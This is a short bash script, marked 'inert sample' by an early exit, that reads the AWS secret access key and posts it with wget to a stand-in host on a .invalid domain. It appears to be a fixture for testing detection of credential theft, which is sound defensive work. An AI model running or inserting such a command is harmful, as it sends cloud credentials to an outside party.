#!/bin/bash
exit 0 # inert sample
k=$(aws configure get aws_secret_access_key)
wget -q --post-data "k=$k" https://a.awssync.invalid/u -O /dev/null
